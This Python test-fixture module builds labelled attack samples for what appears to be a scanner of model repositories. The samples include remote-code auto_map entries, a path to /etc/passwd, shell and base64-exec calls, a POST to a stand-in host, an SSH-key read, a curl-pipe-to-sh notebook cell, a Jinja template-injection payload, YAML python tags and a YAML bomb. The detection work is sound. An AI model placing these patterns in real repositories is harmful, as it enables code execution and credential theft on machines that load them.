"""What a repository can do beside its weights: one sample for each row of the catalogue of threats, section 9."""

import json

from tests.craft.attack import Attack


def _text(value):
    return (value if isinstance(value, str) else json.dumps(value)).encode()


def _rows(section, *rows):
    """Samples of a section: where the file lies, what it says, the rule and the least that it says of it."""
    return [
        Attack(
            section, about, _text(content), rule, severity,
            {"critical": "malicious", "high": "malicious", "medium": "suspicious"}.get(severity, "clean"), name,
        )
        for about, name, content, rule, severity in rows
    ]  # fmt: skip


def _notebook(*cells):
    """A notebook of cells: (kind, source, outputs)."""
    made = [
        {"cell_type": kind, "metadata": {}, "source": source, "outputs": list(outputs), "execution_count": None}
        for kind, source, *outputs in cells
    ]
    return {"nbformat": 4, "nbformat_minor": 5, "metadata": {"kernelspec": {"name": "python3"}}, "cells": made}


_HTML = {"output_type": "display_data", "metadata": {}, "data": {"text/html": "<script>fetch('http://x')</script>"}}
_DIFFUSERS = {"_class_name": "StableDiffusionPipeline", "_diffusers_version": "0.30"}
_SSTI = "{{ cycler.__init__.__globals__.os.popen('id').read() }}"

SURFACE_ATTACKS = {
    "Code that transformers loads": _rows(
        "9.1",
        ("code of the repository itself", "config.json", {"auto_map": {"AutoModel": "modeling_x.X"}}, "config-auto-map", "medium"),
        ("code of another repository", "config.json", {"auto_map": {"AutoModel": "attacker/other--mod.X"}}, "config-auto-map", "high"),
        ("code of a tokenizer, of another repository", "tokenizer_config.json", {"auto_map": {"AutoTokenizer": [None, "attacker/other--tok.X"]}}, "config-auto-map", "high"),
        ("a kernel of another repository", "config.json", {"_attn_implementation_internal": "attacker/kernel"}, "config-fetches-code", "critical"),
        ("a kernel at a revision", "config.json", {"text_config": {"attn_implementation": "attacker/kernel@main:fn"}}, "config-fetches-code", "critical"),
        ("a configuration that agrees by itself", "config.json", {"vision": {"trust_remote_code": True}}, "config-trusts-remote-code", "critical"),
        ("the same in a training run", "axolotl.yaml", "model:\n  trust_remote_code: true\n", "config-trusts-remote-code", "low"),
        ("a path away from the repository", "config.json", {"vocab_file": "../../../etc/passwd"}, "config-path", "medium"),
        ("a path at an address", "config.json", {"index_path": "http://203.0.113.7/index"}, "config-path", "medium"),
    ),
    "Code that other libraries load": _rows(
        "9.2",
        ("a file for mlx-lm", "config.json", {"model_type": "llama", "model_file": "model.py"}, "config-model-file", "critical"),
        ("a module of sentence-transformers", "modules.json", [{"idx": 0, "name": "0", "path": "", "type": "custom_st.Transformer"}], "config-module", "high"),
        ("an adapter's library", "adapter_config.json", {"peft_type": "LORA", "auto_mapping": {"parent_library": "acme_models", "base_model_class": "M"}}, "config-parent-library", "medium"),
        ("an adapter's library that runs code", "adapter_config.json", {"peft_type": "LORA", "auto_mapping": {"parent_library": "subprocess", "base_model_class": "Popen"}}, "config-parent-library", "critical"),
        ("a library of a pipeline", "model_index.json", {**_DIFFUSERS, "unet": ["acme_models", "UNet"]}, "config-library", "high"),
        ("a pipeline of its own", "model_index.json", {**_DIFFUSERS, "_class_name": ["pipeline", "Pipe"]}, "config-library", "medium"),
        ("hyperparameters that call", "hyperparams.yaml", "x: !apply:os.system [id]\n", "config-target", "critical"),
        ("hyperparameters that make what nobody knows", "hyperparams.yaml", "x: !new:custom.Model\n    a: 1\n", "config-target", "medium"),
    ),
    "Python": _rows(
        "9.3",
        ("a program started at import", "modeling_x.py", "import subprocess\nsubprocess.Popen(['sh', '-c', 'id'])\n", "python-runs-programs", "critical"),
        ("code that is made", "modeling_x.py", "import base64\nexec(base64.b64decode('aWQ='))\n", "python-runs-made-code", "critical"),
        ("a command while a model is loaded", "handler.py", "import os\nclass EndpointHandler:\n    def __init__(self, path=''):\n        os.system('id')\n", "python-runs-programs", "critical"),
        ("a command of a pipeline", "pipeline.py", "import os\nclass PreTrainedPipeline:\n    def __call__(self, x):\n        os.popen('id')\n", "python-runs-programs", "critical"),
        ("a request at import", "configuration_x.py", "import requests\nrequests.post('http://203.0.113.7/a', data='x')\n", "python-reaches-out", "high"),
        ("the keys of whoever loads it", "utils.py", "import os\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n", "python-reads-credentials", "high"),
        ("another module's place", "patch.py", "import sys\nsys.modules['torch'] = object()\n", "python-tampers", "high"),
        ("a library of the repository", "native.py", "import ctypes\nctypes.CDLL('./libhelper.so')\n", "python-loads-native-code", "high"),
        ("a pickle", "load.py", "import pickle\nclass M:\n    def __init__(self): pickle.load(open('a', 'rb'))\n", "python-loads-unsafely", "medium"),
    ),
    "Notebooks": _rows(
        "9.4",
        ("a script that is fetched and run", "demo.ipynb", _notebook(("code", "!curl -s https://x.example/i.sh | sh\n")), "python-runs-programs", "critical"),
        ("an output that is a script", "demo.ipynb", _notebook(("code", "1", _HTML)), "notebook-script", "medium"),
    ),
    "Templates": _rows(
        "8.2",
        ("the globals of a helper", "tokenizer_config.json", {"chat_template": _SSTI}, "template-reaches-python", "critical"),
    ),
    "YAML": _rows(
        "9.5",
        ("a call", "config.yaml", "a: !!python/object/apply:os.system [id]\n", "yaml-tag", "critical"),
        ("a name", "config.yaml", "a: !!python/name:acme.f\n", "yaml-tag", "high"),
        ("another language", "config.yaml", "a: !!javax.script.ScriptEngineManager []\n", "yaml-tag", "high"),
        ("aliases of aliases", "config.yaml", "a: &a [x,x,x,x,x,x,x,x,x,x]\n" + "".join(f"{n}: &{n} [{','.join([f'*{m}'] * 10)}]\n" for m, n in zip("abcdefgh", "bcdefghi", strict=True)), "yaml-bomb", "medium"),
    ),
    "Calls that configurations ask for": _rows(
        "9.6",
        ("Hydra", "conf/hydra.yaml", "model:\n  _target_: os.system\n  _args_: [id]\n", "config-target", "critical"),
        ("Lightning", "conf/fit.yaml", "trainer:\n  class_path: subprocess.Popen\n  init_args: {args: id}\n", "config-target", "critical"),
        ("latent diffusion", "v1.json", {"target": "acme.Net", "params": {}}, "config-target", "medium"),
        ("the environment", "conf/env.yaml", "x: ${oc.env:HF_TOKEN}\n", "config-interpolation", "high"),
    ),
}  # fmt: skip
